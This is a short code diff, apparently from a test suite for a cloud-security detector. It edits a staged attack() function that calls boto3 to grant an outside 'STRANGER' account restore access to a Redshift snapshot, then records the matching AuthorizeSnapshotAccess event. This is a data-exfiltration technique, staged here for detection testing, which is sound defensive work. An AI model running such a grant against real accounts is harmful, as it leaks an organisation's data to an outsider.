@@ -72,10 +72,9 @@ def shared_snapshot() -> Staged:
 
     def attack() -> Change:
         request = {"snapshotIdentifier": "nightly", "accountWithRestoreAccess": STRANGER}
-        for one in (STRANGER, "888888888888"):
-            boto3.client("redshift").authorize_snapshot_access(
-                SnapshotIdentifier="nightly", AccountWithRestoreAccess=one
-            )
+        boto3.client("redshift").authorize_snapshot_access(
+            SnapshotIdentifier="nightly", AccountWithRestoreAccess=STRANGER
+        )
         response = {"snapshotIdentifier": "nightly", "clusterIdentifier": "sales"}
         return change(REDSHIFT, "AuthorizeSnapshotAccess", request, responseElements=response)
 
